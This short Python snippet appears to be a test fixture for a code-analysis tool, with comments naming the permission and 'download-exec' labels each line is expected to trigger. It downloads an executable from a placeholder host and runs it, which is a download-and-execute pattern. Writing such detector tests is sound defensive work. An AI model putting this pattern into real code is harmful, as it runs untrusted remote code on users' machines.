# urlretrieve then run the file
import os
import urllib.request

urllib.request.urlretrieve("http://example.org/a.exe", "a.exe")  # expect: perm-network, perm-fs-write
os.startfile("a.exe")  # expect: download-exec, perm-process
